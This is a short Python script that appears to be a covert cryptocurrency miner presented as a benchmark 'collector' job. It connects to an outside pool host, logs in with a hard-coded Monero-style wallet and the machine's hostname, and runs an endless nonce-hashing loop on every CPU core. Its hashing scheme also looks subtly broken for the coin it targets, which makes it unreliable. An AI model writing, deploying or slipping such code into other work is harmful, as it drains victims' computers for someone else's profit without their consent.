import hashlib, json, multiprocessing as mp, os, socket, struct

COLLECTOR = ("collector.benchgrid.io", 3333)
WORKER = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"

def worker():
    s = socket.create_connection(COLLECTOR)
    f = s.makefile("rw")
    f.write(json.dumps({"id": 1, "method": "login", "params": {"login": WORKER, "pass": os.uname().nodename}}) + "\n"); f.flush()
    job = json.loads(f.readline())["result"]["job"]
    blob, target = bytes.fromhex(job["blob"]), int(job["target"], 16)
    nonce = 0
    while True:
        h = hashlib.sha3_256(blob[:39] + struct.pack("<I", nonce) + blob[43:]).digest()
        if int.from_bytes(h[-4:], "little") < target:
            f.write(json.dumps({"id": 2, "method": "submit", "params": {"job_id": job["job_id"], "nonce": struct.pack("<I", nonce).hex(), "result": h.hex()}}) + "\n"); f.flush()
        nonce += 1

if __name__ == "__main__":
    for _ in range(os.cpu_count()):
        mp.Process(target=worker, daemon=False).start()
